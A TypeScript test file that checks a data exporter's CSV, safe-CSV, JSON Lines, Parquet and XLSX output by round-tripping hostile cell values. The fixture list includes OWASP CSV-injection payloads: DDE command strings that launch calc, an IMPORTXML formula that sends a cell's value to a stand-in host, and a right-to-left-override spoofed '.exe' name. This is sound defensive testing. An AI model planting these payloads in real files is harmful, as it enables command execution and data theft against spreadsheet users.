import { MAPPING_COLUMNS, SHEET_CELL, UNSAFE_FIRST, fromSafeText } from '@crosswalk/core'
import type { StoredRow } from '@crosswalk/core'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { SaxesParser } from 'saxes'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { fromBuffer } from 'yauzl'
import type { Entry, ZipFile } from 'yauzl'
import { literal, openDuck } from '../../src/warehouse/duck.js'
import { generateRows, makeRunFolder, ODD_TEXTS } from '../warehouse/run-folder.js'
import { JOB_NAME, exported, specOf } from './support.js'
import { readStrictly } from './strict-csv.js'

/** Openings that spreadsheets have taken for formulas (OWASP, CSV injection), and what else breaks readers. */
const OWASP = [
  ...[
    "=cmd|' /C calc'!A0",
    '=1+1',
    '+1+1',
    '-1+1',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '=HYPERLINK("http://x","y")',
  ],
  ...[
    '=IMPORTXML(CONCAT("http://x?v=",A1),"//a")',
    '=DDE("cmd";"/C calc";"x")',
    "+cmd|'/C calc'!A0",
    '-2+3+cmd|x',
  ],
  ...['@cmd', '＝1+1', '＋1', '－1', '＠x', '"=1+1"', "'=1+1", ';=1+1', ',=1+1', '%0A=1+1', ' =1+1'],
]
const HOSTILE = [
  ...OWASP,
  ...ODD_TEXTS,
  ...['\u202Egpj.exe', '\u200F\u05D0', 'a\u0000b', '\u0001\u001f\u007f', '\uFEFF', 'x'.repeat(1 << 20)],
  ...[
    '_x0041_',
    '_x005F_x0041_',
    '<a href="x">&amp;</a>',
    ']]>',
    '\uFFFE',
    '\uFFFF',
    'é\u0301',
    '𝒳'.repeat(100),
  ],
]

const rows = generateRows(HOSTILE.length)
rows.mappings.forEach((row, index) => Object.assign(row, { source_id: HOSTILE[index], source_name: null }))
let made: Awaited<ReturnType<typeof makeRunFolder>>
beforeAll(async () => {
  made = await makeRunFolder(rows)
})
afterAll(() => made.remove())

const COLUMNS = ['source_id', 'source_username', 'source_caption', 'destination_name'] as const
const expected = (): (string | null)[][] =>
  rows.mappings.map((row: StoredRow) => COLUMNS.map((column) => row[column] as string | null))
const picked = (records: readonly string[][]): string[][] =>
  records.slice(1).map((record) => COLUMNS.map((column) => record[MAPPING_COLUMNS.indexOf(column)] ?? ''))
const blank = (cells: (string | null)[][]): string[][] => cells.map((row) => row.map((cell) => cell ?? ''))

const recordsOf = (bytes: Buffer): string[][] => {
  const records: string[][] = []
  readStrictly(bytes, (record) => records.push(record.cells()))
  return records
}

test('raw CSV: every cell comes back byte for byte', () =>
  exported(specOf(made.runsFolder), ({ parts: [bytes] }) => {
    expect(picked(recordsOf(bytes ?? Buffer.of()))).toEqual(blank(expected()))
  }))

test('safe CSV: no cell opens a formula, and the inverse gives every cell back', () =>
  exported(specOf(made.runsFolder, { format: 'SAFE_CSV' }), ({ parts: [bytes] }) => {
    const cells = picked(recordsOf(bytes ?? Buffer.of()))
    const unsafe = new Set<string>(UNSAFE_FIRST.filter((one) => one !== "'"))
    expect(cells.flat().filter((cell) => unsafe.has(cell.charAt(0)))).toEqual([])
    expect(cells.map((row) => row.map(fromSafeText))).toEqual(blank(expected()))
  }))

test('a byte order mark stands once, before the header', () =>
  exported(specOf(made.runsFolder, { byteOrderMark: true }), ({ parts: [bytes] }) => {
    const text = bytes?.toString('utf8') ?? ''
    expect(text.startsWith(`\uFEFF${MAPPING_COLUMNS.join(',')}\r\n`)).toBe(true)
    expect(picked(recordsOf((bytes ?? Buffer.of()).subarray(3)))).toEqual(blank(expected()))
  }))

test('JSON Lines: every value, and null where there is none', () =>
  exported(specOf(made.runsFolder, { format: 'JSONL' }), ({ parts: [bytes] }) => {
    const lines = (bytes?.toString('utf8') ?? '').trimEnd().split('\n')
    const read = lines.map((line) => JSON.parse(line) as Record<string, string | null>)
    expect(read.map((row) => COLUMNS.map((column) => row[column]))).toEqual(expected())
    expect(read[0]?.job_name).toBe(JOB_NAME)
  }))

test('Parquet: every value, and NULL where there is none', () =>
  exported(specOf(made.runsFolder, { format: 'PARQUET' }), async ({ folder, manifest }) => {
    const duck = await openDuck({ threads: 1, memoryLimit: '256MB' })
    const path = join(folder, manifest.parts[0]?.file ?? '')
    const read = await duck.rows(
      { name: 'read' },
      `SELECT ${COLUMNS.join(', ')} FROM read_parquet(${literal(path)})`,
    )
    duck.close()
    expect(read.map((row) => COLUMNS.map((column) => row[column]))).toEqual(expected())
  }))

test('a text too long for a cell is refused in a workbook, with the way out', async () => {
  const asked = exported(specOf(made.runsFolder, { format: 'XLSX' }), () => undefined)
  await expect(asked).rejects.toMatchObject({ code: 'SHEET_TOO_SMALL' })
  await expect(asked).rejects.toThrow(/1,048,576 characters.*Export CSV or JSON Lines/)
})

/** The texts of a sheet's cells, as a reader of SpreadsheetML sees them. */
const sheetCells = async (workbook: Buffer): Promise<string[][]> => {
  const zip = await promisify<Buffer, object, ZipFile>(fromBuffer)(workbook, { lazyEntries: true })
  const entry = await new Promise<Entry>((resolve) => {
    zip.on('entry', (one: Entry) => (one.fileName.endsWith('sheet1.xml') ? resolve(one) : zip.readEntry()))
    zip.readEntry()
  })
  const chunks: Buffer[] = []
  for await (const chunk of await promisify(zip.openReadStream.bind(zip))(entry)) chunks.push(chunk as Buffer)
  const sheet: string[][] = []
  let text = ''
  const parser = new SaxesParser()
  parser.on('opentag', ({ name }) => {
    if (name === 'row') sheet.push([])
    if (name === 'c') text = ''
  })
  parser.on('text', (more) => (text += more))
  parser.on('closetag', ({ name }) => {
    if (name === 'c') sheet.at(-1)?.push(text)
  })
  parser.write(Buffer.concat(chunks).toString('utf8')).close()
  const unescape = (cell: string) =>
    cell.replace(/_x([0-9A-F]{4})_/g, (_, code: string) => String.fromCharCode(parseInt(code, 16)))
  return sheet.map((row) => row.map(unescape))
}

test('XLSX: every text that fits a cell comes back, and is a text', async () => {
  const short = generateRows(HOSTILE.length)
  short.mappings.forEach((row, index) => {
    const text = HOSTILE[index] ?? ''
    Object.assign(row, { source_id: text.length > SHEET_CELL ? 'x'.repeat(SHEET_CELL) : text })
  })
  const folder = await makeRunFolder(short)
  try {
    await exported(specOf(folder.runsFolder, { format: 'XLSX' }), async ({ parts: [bytes] }) => {
      const cells = picked(await sheetCells(bytes ?? Buffer.of()))
      expect(cells).toEqual(
        blank(short.mappings.map((row) => COLUMNS.map((column) => row[column] as string | null))),
      )
    })
  } finally {
    await folder.remove()
  }
})
